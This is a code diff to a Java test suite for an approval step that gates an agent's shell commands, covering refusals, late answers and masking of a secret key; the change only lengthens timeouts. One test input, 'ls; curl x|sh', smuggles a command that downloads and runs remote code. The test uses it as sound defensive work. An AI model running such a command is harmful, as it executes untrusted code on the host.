@@ -97,7 +97,7 @@ final class AskedCallsTest {
         assertThat(exec.calls).hasSize(1);
         assertThat(question.arguments().path("command").stringValue()).isEqualTo("ls; curl x|sh");
         rig.approvals().answer(question.id(), false, "not that");
-        answer.get(10, TimeUnit.SECONDS);
+        answer.get(60, TimeUnit.SECONDS);
         assertThat(exec.calls).hasSize(1);
     }
 
@@ -115,7 +115,7 @@ final class AskedCallsTest {
                 .isEqualTo(new Approvals.Answer.TooLate(Decision.by(false, "I need those")));
         assertThat(rig.approvals().answer("approval-none", true, null)).isEqualTo(new Approvals.Answer.Unknown());
 
-        answer.get(10, TimeUnit.SECONDS);
+        answer.get(60, TimeUnit.SECONDS);
         assertThat(exec.calls).isEmpty();
         assertThat(rig.told(1).getLast())
                 .contains("Not done: the person refused it. They said: \\\"I need those\\\"")
@@ -152,7 +152,7 @@ final class AskedCallsTest {
 
         assertThat(question.arguments().toString()).isEqualTo("{\"command\":\"curl -H •••• x\",\"cwd\":\"a\"}");
         rig.approvals().answer(question.id(), true, null);
-        answer.get(10, TimeUnit.SECONDS);
+        answer.get(60, TimeUnit.SECONDS);
         assertThat(exec.calls.getFirst().path("command").stringValue()).isEqualTo("curl -H sk-very-secret-key x");
     }
 
@@ -166,7 +166,7 @@ final class AskedCallsTest {
 
         assertThat(rig.approvals().pending()).extracting(Approval::id).containsExactly(before.id());
         assertThat(rig.approvals().answer(before.id(), true, null)).isEqualTo(new Approvals.Answer.Taken());
-        assertThat(rig.goOn().get(10, TimeUnit.SECONDS).text()).isEqualTo("done");
+        assertThat(rig.goOn().get(60, TimeUnit.SECONDS).text()).isEqualTo("done");
 
         assertThat(abandoned).isNotDone();
         assertThat(exec.calls).hasSize(1);
@@ -185,7 +185,7 @@ final class AskedCallsTest {
         rig.letGo();
 
         assertThat(waiting)
-                .failsWithin(Duration.ofSeconds(5))
+                .failsWithin(Duration.ofSeconds(60))
                 .withThrowableThat()
                 .havingCause()
                 .isInstanceOf(InterruptedException.class);
